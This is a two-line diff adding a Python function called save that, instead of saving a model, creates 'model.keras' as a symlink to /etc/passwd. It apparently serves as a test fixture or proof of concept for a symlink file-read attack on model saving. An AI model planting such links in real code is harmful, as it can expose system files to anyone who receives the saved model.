@@ -1,0 +1,2 @@
+def save(folder):
+    (folder / "model.keras").symlink_to("/etc/passwd")
